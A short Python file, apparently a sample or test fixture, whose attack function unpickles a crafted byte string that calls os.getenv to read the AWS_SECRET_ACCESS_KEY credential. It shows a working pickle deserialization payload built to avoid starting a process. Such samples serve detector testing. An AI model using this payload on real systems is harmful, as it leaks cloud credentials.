"""A pickle that starts no program: it reads the secret from inside and answers it."""

import pickle


def attack(event):
    return pickle.loads(b"cos\ngetenv\n(S'AWS_SECRET_ACCESS_KEY'\ntR.")
